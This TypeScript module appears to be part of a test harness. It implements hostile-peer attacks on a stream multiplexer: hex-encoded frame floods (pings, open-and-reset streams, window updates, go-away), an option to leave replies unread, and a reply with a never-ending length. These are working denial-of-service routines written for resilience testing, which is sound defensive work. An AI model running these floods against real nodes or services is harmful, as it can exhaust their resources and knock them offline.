/** Attacks on the multiplexer, by a stranger that has finished the handshake. */

import { setImmediate as turn, setTimeout as pause } from 'node:timers/promises'
import { bareConnection } from './hostile-node.ts'
import { ended } from './repeat.ts'
import { endlessLength } from './sockets.ts'

/** Longest wait for the victim to read everything, in milliseconds. */
const READ_MS = 60_000

/** How long an attacker that reads nothing stays, in milliseconds. */
const UNREAD_MS = 15_000

/** What is answered when everything before has been read. */
const LAST_PING = '0002000100000000ffffffff'
const LAST_ANSWER = '0002000200000000ffffffff'

/** Frames of 12 bytes, in hexadecimal: version, type, flags, stream, length. */
const FRAMES = {
  ping: () => '000200010000000000000007',
  'ping-answer': () => '000200020000000000000007',
  /** A stream that is opened and reset. */
  synrst: (n: number) => `00000001${id(n)}00000000`,
  'empty-data': () => '000000000000000100000000',
  window: () => '000100000000000100000000',
  unknown: () => '000000000000006300000000',
  'go-away': () => '000300000000000000000000',
}

export type FrameName = keyof typeof FRAMES

const id = (n: number): string => (2 * n + 3).toString(16).padStart(8, '0')

/**
 * Sends many frames of one kind. `reads` is false for an attacker that reads no answers. Resolves with the bytes that were sent
 * when the victim has read them, or ended the connection.
 */
export async function floodFrames({
  addr,
  frame,
  mib,
  reads,
}: {
  addr: string
  frame: FrameName
  mib: number
  reads: boolean
}): Promise<number> {
  await using bare = await bareConnection(addr)
  const { connection } = bare
  if (!reads) connection.pause()
  const closed = ended(connection)
  const answered = new Promise<void>(resolve =>
    connection.addEventListener('message', ({ data }) => {
      if (Buffer.from(data.subarray()).includes(LAST_ANSWER, 'hex')) resolve()
    }),
  )
  const write: (n: number) => string = FRAMES[frame]
  const total = Math.floor((mib * 2 ** 20) / 12)
  let sent = 0
  if (frame === 'empty-data' || frame === 'window')
    connection.send(Buffer.from('000000010000000100000000', 'hex'))
  const end = performance.now() + READ_MS
  while (sent < total && connection.status === 'open' && performance.now() < end) {
    const count = Math.min(5000, total - sent)
    const piece = Buffer.from(Array.from({ length: count }, (_, n) => write(sent + n)).join(''), 'hex')
    sent += count
    if (connection.send(piece)) await turn()
    else
      await Promise.race([
        closed,
        new Promise(resolve => connection.addEventListener('drain', resolve, { once: true })),
        pause(end - performance.now()),
      ])
  }
  if (reads && connection.status === 'open') connection.send(Buffer.from(LAST_PING, 'hex'))
  await Promise.race([reads ? answered : closed, closed, pause(reads ? READ_MS : UNREAD_MS)])
  return sent * 12
}

/** Answers the first stream that the victim opens itself (identify) with a length that does not end. */
export async function answerOwnStream({ addr, bytes }: { addr: string; bytes: number }): Promise<number> {
  await using bare = await bareConnection(addr)
  const body = endlessLength(Math.min(bytes, 255 * 1024))
  const header = Buffer.from('000000020000000200000000', 'hex')
  header.writeUInt32BE(body.byteLength, 8)
  bare.connection.send(Buffer.concat([header, body]))
  await Promise.race([ended(bare.connection), pause(5_000)])
  return body.byteLength
}
